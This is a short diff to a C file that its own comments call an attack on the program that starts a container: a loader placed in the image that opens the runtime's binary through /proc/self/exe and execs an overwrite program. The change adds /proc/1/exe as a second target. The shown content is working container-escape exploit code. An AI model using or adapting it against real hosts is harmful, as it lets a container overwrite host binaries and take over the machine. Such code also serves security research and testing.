@@ -1,8 +1,8 @@
 // The attack on the program that starts a container, without a C library: it is the loader of the image.
 //
 // `RUN ["/proc/self/exe"]` makes the kernel load whatever program the container's process is at that moment, and its
-// loader from the image: this file. It keeps that program open, becomes another program, and tries to write to the
-// first until the kernel lets it, which is when nobody runs it any more.
+// loader from the image: this file. It keeps that program open, and the container's first one, becomes another program,
+// and tries to write to them until the kernel lets it, which is when no process runs them any more.
 #include <asm/unistd.h>
 #include <stddef.h>
 
@@ -58,6 +58,7 @@ __attribute__((used)) static void start(char **stack) {
         call(__NR_exit_group, 0, 0, 0);
     }
     call(__NR_open, (long)"/proc/self/exe", READ_ONLY, 0);
+    call(__NR_open, (long)"/proc/1/exe", READ_ONLY, 0);
     char *words[] = {"/overwrite", "loop", KEY, NULL};
     call(__NR_execve, (long)words[0], (long)words, 0);
     call(__NR_exit_group, 70, 0, 0);
